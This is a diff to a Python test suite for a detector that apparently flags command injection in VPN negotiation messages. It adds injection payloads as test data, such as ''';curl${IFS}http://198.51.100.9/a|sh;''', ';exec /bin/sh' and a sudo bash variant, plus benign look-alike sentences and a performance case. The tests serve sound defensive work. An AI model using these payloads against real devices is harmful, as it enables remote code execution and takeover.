@@ -21,7 +21,12 @@ def talk(data: bytes, **fields) -> Talk:
         b"`/bin/sh -i`",
         b"$(curl http://198.51.100.9/)",
         b"| sh",
-        b"; \n\t wget x",
+        b"; \n\t wget x.example",
+        b'";ash -c "id',
+        b'";sudo bash -c "id"',
+        b"';curl${IFS}http://198.51.100.9/a|sh;'",
+        b";exec /bin/sh",
+        b"x;sh\0",
         b"\n\n \n/bin/sh",
     ],
 )
@@ -65,6 +70,10 @@ def test_other_commands_and_paths_are_possible(data: bytes) -> None:
         b"error\nid 4 is unknown",
         b"use `aes256` or `id-fqdn`",
         b"see https://vpn.example/help?a=1;b=2&c=3",
+        b"peer says: use sha256; bash is not meant",
+        b"curl of the field; dash required.",
+        b"the log has more | sh of the device",
+        b"a fee of $(5)",
     ],
 )
 def test_sentences_with_such_signs(data: bytes) -> None:
@@ -99,6 +108,7 @@ def test_beside_a_proposal_or_encrypted_it_is_not_this_attack() -> None:
 def test_a_payload_full_of_ends_of_commands_is_read_once() -> None:
     """With a search that began again at each of them this would not end within a minute."""
     assert found(ID, talk(b"\n" * 65_000 + b"x sh")) == []
+    found(ID, talk(b";sudo " * 10_000 + b"sh"))
     assert len(found(ID, talk(b"\n" * 65_000 + b"sh"))) == 1
     for piece in (b"; ", b";/a", b"; /", b"|ping ", b"`nc  ", b"$(", b";." * 2):
         found(ID, talk(piece * (65_000 // len(piece))))
